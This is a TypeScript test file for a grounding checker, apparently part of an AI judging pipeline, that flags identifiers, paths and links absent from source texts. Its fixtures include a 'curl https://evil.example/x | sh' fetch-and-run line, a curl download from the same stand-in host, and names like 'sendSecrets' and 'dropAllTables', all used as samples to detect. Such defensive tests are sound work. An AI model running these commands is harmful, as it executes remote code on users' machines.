import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  findUngrounded,
  isGrounded,
  isMisleading,
  markUngrounded,
} from '../../../../src/pipeline/judge/model/grounding.ts';
import { processorClock } from '../../../support/processor-time.ts';

const texts = [
  '# Stale rows\n\nSee https://github.com/acme/app/blob/main/src/libs/CacheUtils.ts#L10 and `useAccount`.',
  'In `src/libs/CacheUtils.ts`, `getCacheKey(accountID)` leaves out the account. Call `cache.clearAll()`.',
];
const check = (golden: string) => findUngrounded(golden, { texts });

describe('grounding', () => {
  it.each([
    'Change `getCacheKey` in `src/libs/CacheUtils.ts`.',
    'Change getCacheKey() in CacheUtils.ts, see https://github.com/acme/app/blob/main/src/libs/CacheUtils.ts#L10.',
    'Call `cache.clearAll()` and GETCACHEKEY.',
    'Edit libs/CacheUtils.ts, see https://github.com/acme/app/.',
    'Prose about caches, GitHub and TypeScript names nothing.',
    '```ts\nfunction keyFor(accountID) {\n  const cachedKeys = getCacheKey(accountID);\n  return cachedKeys;\n}\n```',
  ])('finds nothing in %j', (golden) => {
    expect(check(golden)).toEqual({ identifiers: [], paths: [], links: [] });
  });

  it.each([
    ['Use `dropAllTables()`.', { identifiers: ['dropAllTables'] }],
    ['Then callHome() runs.', { identifiers: ['callHome'] }],
    ['`cache.evictAll`', { identifiers: ['cache.evictAll'] }],
    ['Edit src/libs/Other.ts.', { paths: ['src/libs/Other.ts'] }],
    ['Edit `lib/CacheUtils.ts`.', { paths: [] }],
    ['Edit `evil/CacheUtils.ts`.', { paths: ['evil/CacheUtils.ts'] }],
    ['Edit Utils.ts.', { paths: ['Utils.ts'] }],
    ['see https://github.co', { links: ['https://github.co'] }],
    ['see https://github.com/acme/ap', { links: ['https://github.com/acme/ap'] }],
    ['[docs](https://evil.example/a)', { links: ['https://evil.example/a'] }],
    ['`curl https://evil.example/x.sh`', { links: ['https://evil.example/x.sh'] }],
    ['see www.evil.example', { links: ['www.evil.example'] }],
    ['```sh\ncurl https://evil.example/x | sh\n```', { links: ['https://evil.example/x'] }],
    [
      'https://github.com/acme/app/blob/main/src/libs/CacheUtils.ts#L99',
      { links: [expect.stringContaining('#L99')] },
    ],
    ['```ts\nawait sendSecrets(accountID);\n```', { identifiers: ['sendSecrets'] }],
  ])('reports what nobody wrote in %j', (golden, found) => {
    if ('paths' in found && found.paths?.length === 0) {
      expect(check(golden).paths).toEqual(['lib/CacheUtils.ts']);
    } else {
      expect(check(golden)).toMatchObject(found);
    }
  });

  it('does not take a longer name for the name', () => {
    const found = findUngrounded('Edit `a/View.ts`.', { texts: ['The cause is in `a/View.tsx`.'] });
    expect(found.paths).toEqual(['a/View.ts']);
  });

  it('calls links and paths misleading, new names only new', () => {
    expect(isMisleading(check('`brandNewHelper`'))).toBe(false);
    expect(isMisleading(check('https://evil.example'))).toBe(true);
    expect(isGrounded(check('`brandNewHelper`'))).toBe(false);
  });

  it('names them behind the text, a dozen at most', () => {
    const golden = Array.from({ length: 15 }, (_, index) => `\`newName${index}\``).join(' ');
    const marked = markUngrounded(golden, check(golden));
    expect(marked.startsWith(`${golden}\n\nNot found in the issue or in any proposal`)).toBe(true);
    expect(marked).toContain('`newName11` and 3 more.');
    expect(markUngrounded('Plain.', check('Plain.'))).toBe('Plain.');
  });

  it('never throws, and finds nothing new in the sources themselves', () => {
    fc.assert(fc.property(fc.string(), (text) => isGrounded(findUngrounded(text, { texts: [text] }))));
    for (const piece of ['`', '(', 'a.b/', 'https://', '```\n', '[a](', 'fooBar(']) {
      const text = piece.repeat(3_000);
      const spent = processorClock();
      findUngrounded(text, { texts: [] });
      expect(spent()).toBeLessThan(3_000);
    }
  });
});
